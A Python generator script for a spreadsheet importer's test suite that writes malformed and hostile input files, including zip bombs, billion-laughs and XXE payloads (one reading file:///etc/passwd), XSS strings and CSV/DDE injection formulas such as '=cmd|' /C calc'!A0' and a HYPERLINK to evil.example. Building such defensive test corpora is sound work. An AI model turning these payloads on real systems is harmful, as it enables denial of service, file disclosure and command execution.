"""Write the malformed and hostile files of tests/data/bad/ (run from anywhere; outputs are committed).

    .venv/bin/python tests/data/bad/make_bad_files.py

Each file is refused by the importer; tests/data/bad/expected.toml lists the words its refusal must contain,
and tests/test_bad_files.py checks them and that a CLI import of the file stores nothing. Binary files are
built here byte by byte so the corpus can be regenerated and reviewed; every builder is deterministic.
"""
from __future__ import annotations

import io
import struct
import sys
import zipfile
import zlib
from pathlib import Path

import openpyxl

HERE = Path(__file__).resolve().parent
HEADER = "指标代码,指标名称,期间,累计值,单位,同比增长(%)"
FIXED_TIME = (2023, 7, 1, 0, 0, 0)


def xlsx(rows: list[list], title: str = "Sheet1", formula_cells: dict | None = None) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = title
    for row in rows:
        ws.append(row)
    for ref, formula in (formula_cells or {}).items():
        ws[ref] = formula
    buf = io.BytesIO()
    wb.save(buf)
    return _rezip(buf.getvalue())


def _rezip(data: bytes, replace: dict[str, bytes] | None = None, drop: tuple[str, ...] = ()) -> bytes:
    """Copy a ZIP with fixed timestamps (deterministic bytes), replacing or dropping members."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename in drop:
                continue
            body = (replace or {}).get(info.filename, src.read(info.filename))
            dst.writestr(zipfile.ZipInfo(info.filename, FIXED_TIME), body, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def zip_of(members: dict[str, bytes], stored_first: str | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, body in members.items():
            ctype = zipfile.ZIP_STORED if name == stored_first else zipfile.ZIP_DEFLATED
            z.writestr(zipfile.ZipInfo(name, FIXED_TIME), body, compress_type=ctype)
    return out.getvalue()


def template_csv(*rows: str) -> bytes:
    return ("\n".join((HEADER,) + rows) + "\n").encode("utf-8")


PNG = (b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
       + struct.pack(">I", zlib.crc32(b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)))
       + struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND")))
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n%%EOF\n" + bytes(range(128, 256))
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00" + bytes(range(256))
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff" + bytes(range(256)) * 8


def good_xlsx() -> bytes:
    return xlsx([["指标代码", "指标名称", "期间", "累计值", "单位", "同比增长(%)"],
                 ["gdp", "地区生产总值", "2023年1-6月", 300.5, "亿元", 5.2]])


def bomb_ratio() -> bytes:
    """A 'sheet' of 150 MB of spaces: about 150 KB compressed (ratio ≈ 1000:1), under the 200 MB size limit."""
    out = io.BytesIO()
    base = good_xlsx()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(zipfile.ZipInfo(info.filename, FIXED_TIME), src.read(info.filename))
        zi = zipfile.ZipInfo("xl/worksheets/sheet2.xml", FIXED_TIME)
        zi.compress_type = zipfile.ZIP_DEFLATED
        with dst.open(zi, "w", force_zip64=True) as f:
            block = b" " * (1 << 20)
            for _ in range(150):
                f.write(block)
    return out.getvalue()


def bomb_declared() -> bytes:
    """A small valid workbook whose central directory declares a 4 GB sheet (the sizes lie)."""
    data = bytearray(good_xlsx())
    eocd = data.rfind(b"PK\x05\x06")
    cd_offset = struct.unpack("<I", data[eocd + 16:eocd + 20])[0]
    pos = cd_offset
    while data[pos:pos + 4] == b"PK\x01\x02":
        name_len, extra_len, comment_len = struct.unpack("<HHH", data[pos + 28:pos + 34])
        name = bytes(data[pos + 46:pos + 46 + name_len])
        if name.startswith(b"xl/worksheets/"):
            data[pos + 24:pos + 28] = struct.pack("<I", 0xFFFFFFF0)   # uncompressed size
        pos += 46 + name_len + extra_len + comment_len
    return bytes(data)


def _raw_zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A ZIP written by hand: (name, deflated bytes, crc32, declared uncompressed size) per member."""
    out, cd = bytearray(), bytearray()
    for name, comp, crc, usize in members:
        off, nb = len(out), name.encode()
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x56E1, crc, len(comp), usize, len(nb), 0)
        out += nb + comp
        cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x56E1, crc, len(comp), usize,
                          len(nb), 0, 0, 0, 0, 0, off) + nb
    cd_offset = len(out)
    out += cd + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(cd), cd_offset, 0)
    return bytes(out)


def _deflate(chunks) -> tuple[bytes, int]:
    co, parts, crc = zlib.compressobj(9, zlib.DEFLATED, -15), [], 0
    for c in chunks:
        parts.append(co.compress(c))
        crc = zlib.crc32(c, crc)
    parts.append(co.flush())
    return b"".join(parts), crc


def bomb_lying_size() -> bytes:
    """The sheet inflates to 200 MB but the ZIP declares 2,000 bytes: the size check alone cannot see it."""
    members = []
    with zipfile.ZipFile(io.BytesIO(good_xlsx())) as src:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                head = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns='
                        b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
                comp, crc = _deflate([head] + [b" " * (1 << 20)] * 200 + [b"</sheetData></worksheet>"])
                members.append((info.filename, comp, crc, 2000))
            else:
                comp, crc = _deflate([body])
                members.append((info.filename, comp, crc, len(body)))
    return _raw_zip(members)


def huge_dimension() -> bytes:
    """Two cells, A1 and XFD1048576: 17 billion cells to a reader that builds a dense grid (≈ 7 KB)."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws["A1"] = "地区生产总值"
    ws["B1"] = 1
    ws.cell(row=1048576, column=16384).value = 1
    buf = io.BytesIO()
    wb.save(buf)
    return _rezip(buf.getvalue())


def ods_content(rows_xml: str) -> bytes:
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
               '<office:body><office:spreadsheet><table:table table:name="S1">' + rows_xml +
               '</table:table></office:spreadsheet></office:body></office:document-content>')
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
                'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
                '<manifest:file-entry manifest:full-path="/" '
                'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                '</manifest:manifest>')
    return zip_of({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                   "META-INF/manifest.xml": manifest.encode(), "content.xml": content.encode()},
                  stored_first="mimetype")


def ods_repeated() -> bytes:
    """1,000,000 rows × 1,000 columns of the number 1 declared by repeat counts, in about 1 KB."""
    cell = '<table:table-cell office:value-type="string"><text:p>地区生产总值</text:p></table:table-cell>'
    return ods_content('<table:table-row>' + cell + '</table:table-row>'
                       '<table:table-row table:number-rows-repeated="1000000"><table:table-cell '
                       'table:number-columns-repeated="1000" office:value-type="float" office:value="1">'
                       '<text:p>1</text:p></table:table-cell></table:table-row>')


def deeply_nested() -> bytes:
    """A sheet whose XML nests 200,000 elements deep inside a cell (a recursive parser overflows its stack)."""
    base = good_xlsx()
    depth = 200_000
    sheet = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
             '<row r="1"><c r="A1" t="inlineStr"><is>' + "<r>" * depth + "</r>" * depth +
             '</is></c></row></sheetData></worksheet>').encode()
    return _rezip(base, replace={"xl/worksheets/sheet1.xml": sheet})


def billion_laughs() -> bytes:
    """Entity expansion in the shared strings (XML bomb); must not expand."""
    base = good_xlsx()
    lol = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
           + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
           + ']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
             '<si><t>&lol9;</t></si></sst>')
    sheet = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
             '<row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>')
    return _rezip(base, replace={"xl/sharedStrings.xml": lol.encode(), "xl/worksheets/sheet1.xml": sheet.encode()})


def hidden_only() -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "说明"
    ws["A1"] = "本表数据见隐藏工作表"
    hidden = wb.create_sheet("数据")
    hidden.append(["指标", "1-6月", "增长%"])
    hidden.append(["<b>社会消费品零售总额</b>", 120.1, 6.3])
    hidden.sheet_state = "hidden"
    buf = io.BytesIO()
    wb.save(buf)
    return _rezip(buf.getvalue())


# ── issue 15: XML written any valid way, one budget for all sheets, numbers that are not finite ──

def bureau_with_cell(cell_xml: str) -> bytes:
    """A bureau table whose GDP value cell (C4) is written as `cell_xml` in the sheet XML."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "主要指标"
    ws.append(["岳阳楼区2023年1-6月主要经济指标"])
    ws.append(["指标名称", "单位", "1-6月", "同比增长（%）"])
    ws.append(["社会消费品零售总额", "亿元", 203.45, 7.4])
    ws.append(["地区生产总值", "亿元", 385.36, 5.3])
    buf = io.BytesIO()
    wb.save(buf)
    z = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    xml = z.read("xl/worksheets/sheet1.xml").decode()
    start = xml.index('<c r="C4"')
    end = xml.index("</c>", start) + 4
    return _rezip(buf.getvalue(), replace={"xl/worksheets/sheet1.xml": (xml[:start] + cell_xml + xml[end:]).encode()})


def far_corner(row_and_cell: str) -> bytes:
    """A1 plus one value at the far corner, its reference written `row_and_cell` (valid XML every time)."""
    sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet '
             'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
             '<row r="1"><c r="A1" t="inlineStr"><is><t>地区生产总值</t></is></c></row>'
             + row_and_cell + '</sheetData></worksheet>')
    return _rezip(good_xlsx(), replace={"xl/worksheets/sheet1.xml": sheet.encode()})


def sheets_over_budget() -> bytes:
    """Four sheets of 1,000 × 600 declared cells each: under the limit one by one, over it together."""
    wb = openpyxl.Workbook()
    for k in range(4):
        ws = wb.active if k == 0 else wb.create_sheet(f"S{k + 1}")
        ws["A1"] = "地区生产总值"
        ws.cell(row=1000, column=600).value = 1
    buf = io.BytesIO()
    wb.save(buf)
    return _rezip(buf.getvalue())


def styles_unclosed() -> bytes:
    """styles.xml opening cellXfs 60,000 times and never closing: quadratic for a regular expression."""
    return _rezip(good_xlsx(), replace={"xl/styles.xml": b"<styleSheet>" + b'<cellXfs count="1">' * 60_000})


def sheet_without_gt() -> bytes:
    """A sheet with a 300 KB run of open tags without '>' (quadratic for a tag-matching pattern)."""
    sheet = (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row>'
             + b"<c " * 100_000)
    return _rezip(good_xlsx(), replace={"xl/worksheets/sheet1.xml": sheet})


def sheet_with_dtd() -> bytes:
    sheet = ('<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY big "' + "x" * 1000 + '">]>'
             '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
             '<row r="1"><c r="A1" t="inlineStr"><is><t>&big;</t></is></c></row></sheetData></worksheet>')
    return _rezip(good_xlsx(), replace={"xl/worksheets/sheet1.xml": sheet.encode()})


def ods_quoted_repeat() -> bytes:
    cell = '<table:table-cell office:value-type="string"><text:p>地区生产总值</text:p></table:table-cell>'
    return ods_content("<table:table-row>" + cell + "</table:table-row><table:table-row "
                       "table:number-rows-repeated = '1000000'><table:table-cell table:number-columns-repeated='1000' "
                       "office:value-type='float' office:value='1'><text:p>1</text:p></table:table-cell>"
                       "</table:table-row>")


def xls_far_cell() -> bytes:
    """A legacy .xls with a value at IV65536, the last cell BIFF8 allows: a 16.7 M-cell grid for the reader."""
    import xlwt
    wb = xlwt.Workbook()
    ws = wb.add_sheet("表一")
    ws.write(0, 0, "地区生产总值")
    ws.write(65535, 255, 1)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _with_parts(parts: dict[str, bytes], sheet_extra: bytes = b"") -> bytes:
    """good_xlsx() with parts added or replaced (added after the originals) and extra XML before </sheetData>."""
    base = good_xlsx()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for name in src.namelist():
            body = parts.pop(name, src.read(name))
            if name == "xl/worksheets/sheet1.xml" and sheet_extra:
                body = body.replace(b"</sheetData>", sheet_extra + b"</sheetData>")
            dst.writestr(zipfile.ZipInfo(name, FIXED_TIME), body, compress_type=zipfile.ZIP_DEFLATED)
        for name, body in parts.items():
            dst.writestr(zipfile.ZipInfo(name, FIXED_TIME), body, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


_SST = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_USES_SST = b'<row r="9"><c r="A9" t="s"><v>0</v></c></row>'
_LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
           + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(2, 10))
           .replace("&lol1;", "&lol;") + "]>").encode()


def attack_files() -> dict[str, bytes]:
    """Families found by the attack pass on issue 15: parts the sheet scan did not look at, CDATA values."""
    return {
        # calamine reserves uniqueCount strings up front: 4e9 declared → a native abort
        "sst_unique_count_lie.xlsx": _with_parts({"xl/sharedStrings.xml": _SST + b' count="4000000000" '
                                                  b'uniqueCount="4000000000"><si><t>a</t></si></sst>'}, _USES_SST),
        # entity expansion in parts the old scan skipped (shared strings, content types, docProps)
        "laughs_shared_strings.xlsx": _with_parts({"xl/sharedStrings.xml": _LAUGHS + _SST +
                                                   b'><si><t>&lol9;</t></si></sst>'}, _USES_SST),
        "laughs_content_types.xlsx": _with_parts({"[Content_Types].xml": _LAUGHS + b'<Types xmlns="http://schemas.'
                                                  b'openxmlformats.org/package/2006/content-types">&lol9;</Types>'}),
        "xxe_core_props.xlsx": _with_parts({"docProps/core.xml": b'<?xml version="1.0"?><!DOCTYPE c [<!ENTITY x '
                                            b'SYSTEM "file:///etc/passwd">]><c>&x;</c>'}),
        # calamine reads a CDATA value as empty: 300.5 would become "no value" silently
        "cdata_value.xlsx": _with_parts({}, ('<row r="3"><c r="A3" t="inlineStr"><is><t>gdp</t></is></c>'
                                         '<c r="B3" t="inlineStr"><is><t>地区生产总值</t></is></c><c r="C3" '
                                         't="inlineStr"><is><t>2023年1-9月</t></is></c><c r="D3"><v><![CDATA[300.5]]>'
                                         '</v></c><c r="E3" t="inlineStr"><is><t>亿元</t></is></c></row>').encode()),
        # numbers float() accepts but a figure must not silently become: a decimal comma read as thousands
        # (1,5 → 15), a percentage in an amount column (5% → 5 亿元), digits of another script
        "num_decimal_comma.csv": template_csv('gdp,地区生产总值,2023年1-6月,"1,5",亿元,5.2'),
        "num_percent_in_amount.csv": template_csv("gdp,地区生产总值,2023年1-6月,5%,亿元,5.2"),
        "num_arabic_indic.csv": template_csv("gdp,地区生产总值,2023年1-6月,١٢٣,亿元,5.2"),
        "num_underscore.csv": template_csv("gdp,地区生产总值,2023年1-6月,1_000,亿元,5.2"),
    }


def issue15_files() -> dict[str, bytes]:
    return {
        "xls_far_cell.xls": xls_far_cell(),
        "dimension_single_quotes.xlsx": far_corner("<row r='1048576'><c r='XFD1048576'><v>1</v></c></row>"),
        "dimension_spaced.xlsx": far_corner('<row r = "1048576"><c r = "XFD1048576"><v>1</v></c></row>'),
        "dimension_tab_newline.xlsx": far_corner('<row\tr="1048576"><c\nr="XFD1048576"><v>1</v></c></row>'),
        "dimension_error_cell.xlsx": far_corner('<row r="1048576"><c r="XFD1048576" t="e"><v>#N/A</v></c></row>'),
        "ods_repeat_single_quotes.ods": ods_quoted_repeat(),
        "sheets_over_budget.xlsx": sheets_over_budget(),
        "styles_unclosed.xlsx": styles_unclosed(),
        "sheet_without_gt.xlsx": sheet_without_gt(),
        "sheet_with_dtd.xlsx": sheet_with_dtd(),
        "value_inf.xlsx": bureau_with_cell('<c r="C4"><v>INF</v></c>'),
        "value_minus_infinity.xlsx": bureau_with_cell('<c r="C4"><v>-Infinity</v></c>'),
        "value_nan.xlsx": bureau_with_cell('<c r="C4"><v>NaN</v></c>'),
        "value_400_digits.xlsx": bureau_with_cell('<c r="C4"><v>' + "9" * 400 + "</v></c>"),
        "value_1e308.xlsx": bureau_with_cell('<c r="C4"><v>1.2e308</v></c>'),
        "formula_div0.xlsx": bureau_with_cell('<c r="C4" t="e"><f>C3/0</f><v>#DIV/0!</v></c>'),
        "formula_no_result.xlsx": bureau_with_cell('<c r="C4"><f>C3*2</f></c>'),
        "value_inf.csv": template_csv("gdp,地区生产总值,2023年1-6月,INF,亿元,5.2"),
        "value_400_digits.csv": template_csv("gdp,地区生产总值,2023年1-6月," + "9" * 400 + ",亿元,5.2"),
        "value_1e308.csv": template_csv("gdp,地区生产总值,2023年1-6月,1.2e308,亿元,5.2"),
        "growth_1e6.csv": template_csv("gdp,地区生产总值,2023年1-6月,300.5,亿元,1000000"),
        "field_140k.csv": ("指标名称,1-6月\n地区生产总值," + "x" * 140_000 + "\n").encode(),
    }


def files() -> dict[str, bytes]:
    good = good_xlsx()
    utf16_rows = template_csv("<script>alert(1)</script>,<script>alert(1)</script>,2023年1-6月,1,亿元,1")
    return {
        # not a spreadsheet at all
        "png_renamed.xlsx": PNG,
        "pdf_renamed.xlsx": PDF,
        "exe_renamed.xlsx": EXE,
        "png_renamed.csv": PNG,
        "exe_renamed.csv": EXE,
        "pdf_renamed.xls": PDF,
        "html_table.xls": ("<html><head><meta charset='utf-8'></head><body><table><tr><td>地区生产总值</td>"
                           "<td>300</td></tr></table></body></html>").encode(),
        "text_renamed.xlsx": "指标,1-6月\n地区生产总值,300\n".encode(),
        "xlsx_renamed.csv": good,
        "fake_ole2.xls": OLE2,
        "encrypted_or_ole2.xlsx": OLE2,
        # wrong extension
        "report.txt": "地区生产总值,300\n".encode(),
        "report.docx": zip_of({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}),
        "no_extension": good,
        "macro.xlsm": good,
        # empty or nothing to read
        "empty.xlsx": b"",
        "empty.csv": b"",
        "empty_workbook.xlsx": xlsx([]),
        "whitespace_only.csv": b"   \n\n ,, \n",
        "title_only.xlsx": xlsx([["岳阳楼区2023年1-6月主要经济指标"]]),
        "no_indicator.csv": "项目,1-6月,增长%\n苹果产量,100,1.0\n香蕉产量,200,2.0\n".encode(),
        "hidden_sheet_only.xlsx": hidden_only(),
        # broken archives
        "truncated.xlsx": good[: len(good) // 2],
        "corrupt_zip.xlsx": b"PK\x03\x04" + bytes(range(256)) * 4,
        "zip_not_xlsx.xlsx": zip_of({"readme.txt": "这不是工作簿".encode(), "data/报表.csv": b"a,b\n1,2\n"}),
        "ods_named_xlsx.xlsx": ods_content('<table:table-row><table:table-cell office:value-type="string">'
                                           '<text:p>地区生产总值</text:p></table:table-cell></table:table-row>'),
        "xlsx_named_ods.ods": good,
        "workbook_xml_missing.xlsx": _rezip(good, drop=("xl/workbook.xml",)),
        # resource exhaustion
        "bomb_ratio.xlsx": bomb_ratio(),
        "bomb_declared.xlsx": bomb_declared(),
        "bomb_lying_size.xlsx": bomb_lying_size(),
        "huge_dimension.xlsx": huge_dimension(),
        "huge_repeat.ods": ods_repeated(),
        "deeply_nested.xlsx": deeply_nested(),
        "billion_laughs.xlsx": billion_laughs(),
        "too_many_cells.csv": ("a," * 99 + "a\n").encode() * 200,   # refused with max_cells = 10000
        # content errors
        "no_period.csv": template_csv("gdp,地区生产总值,,300.5,亿元,5.2"),
        "bad_period.csv": template_csv("gdp,地区生产总值,2023-13,300.5,亿元,5.2"),
        "text_in_number.csv": template_csv("gdp,地区生产总值,2023年1-6月,三百亿,亿元,5.2"),
        "csv_injection_number.csv": template_csv("gdp,地区生产总值,2023年1-6月,=cmd|' /C calc'!A0,亿元,5.2"),
        "conflicting_duplicate.csv": template_csv("gdp,地区生产总值,2023年1-6月,300.5,亿元,5.2",
                                                  "gdp,地区生产总值,2023年1-6月,310.0,亿元,5.9"),
        "bad_unit.csv": template_csv("gdp,地区生产总值,2023年1-6月,300.5,吨,5.2"),
        "formula_only.xlsx": xlsx([["指标代码", "指标名称", "期间", "累计值", "单位", "同比增长(%)"]],
                                  formula_cells={"A2": "=\"g\"&\"dp\"", "C2": "=TEXT(DATE(2023,6,30),\"yyyy\")",
                                                 "D2": "=100+200.5", "F2": "=1+4.2"}),
        "xss_only.csv": template_csv("<script>alert(1)</script>,<img src=x onerror=alert(1)>,2023年1-6月,1,亿元,1"),
        "csv_injection_names.csv": "指标,1-6月,增长%\n=HYPERLINK(\"http://evil.example/?x\",\"点击\"),1,1\n"
                                   "@SUM(1+1)*cmd|' /C calc'!A0,2,2\n".encode(),
        "utf16_no_bom.csv": utf16_rows.decode("utf-8").encode("utf-16-le"),
        "utf16_bom_no_indicator.csv": "项目,1-6月\n苹果,1\n".encode("utf-16"),
        "bad_encoding.csv": "指标,1-6月\n".encode("utf-8") + b"\x80\x80\xff\xfe\x81\x30\n",
    }


def main() -> int:
    for name, data in {**files(), **issue15_files(), **attack_files()}.items():
        (HERE / name).write_bytes(data)
    print(f"wrote {len(files()) + len(issue15_files()) + len(attack_files())} files to {HERE}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
